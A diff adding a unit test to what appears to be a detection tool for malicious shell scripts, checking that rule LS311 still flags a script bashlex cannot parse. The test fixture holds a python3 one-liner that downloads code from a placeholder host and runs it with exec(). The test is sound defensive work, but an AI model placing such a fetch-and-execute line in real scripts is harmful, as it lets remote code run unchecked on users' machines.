@@ -367,3 +367,16 @@ def test_a_cron_line_and_a_hook_shown_as_settings_are_read() -> None:
     v = verdict(hook)
     assert worst(v, "LS311") == "critical"
     assert [f.line for f in v.findings if f.rule == "LS311"] == [7]
+
+
+def test_a_multi_line_argument_survives_a_script_bashlex_refuses() -> None:
+    script = (
+        "#!/bin/bash\n"
+        "n=$((1 + 2))\n"  # arithmetic: bashlex refuses the whole script
+        'python3 -c "\n'
+        "import urllib.request as u\n"
+        "exec(u.urlopen('https://x.invalid/p').read())\n"
+        '"\n'
+    )
+    v = verdict(script, "scripts/setup.sh")
+    assert worst(v, "LS311") == "critical", v.to_json()
